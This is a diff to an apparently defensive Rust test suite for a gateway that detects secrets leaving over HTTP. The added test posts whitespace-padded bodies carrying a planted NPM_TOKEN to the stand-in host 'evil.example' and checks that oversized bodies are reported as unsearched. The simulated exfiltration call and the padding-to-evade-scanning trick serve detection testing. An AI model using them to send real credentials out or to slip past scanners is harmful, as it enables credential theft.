@@ -152,6 +152,20 @@ async fn nothing_is_published_and_the_audit_is_answered_here() {
     assert_eq!(said, expected);
 }
 
+/// A body that is not looked at to its end is no body without a secret.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_body_that_is_too_large_to_be_searched_is_said() {
+    let rig = Rig::plain(|_| {});
+    let client = rig.client(&["evil.example"]);
+    for size in [1 << 20, 9 << 20] {
+        let body = format!("{}{PLANTED}", " ".repeat(size));
+        let _ = client.post(rig.url("evil.example", "/drop")).body(body).send().await;
+    }
+    let seen = rig.gateway.close().await.exchanges;
+    let told: Vec<_> = seen.iter().map(|it| (it.carried_secret.as_deref(), it.unsearched)).collect();
+    assert_eq!(told, [(Some("NPM_TOKEN"), false), (None, true)]);
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn what_is_neither_tls_nor_http_is_written_down() {
     let rig = Rig::plain(|_| {});
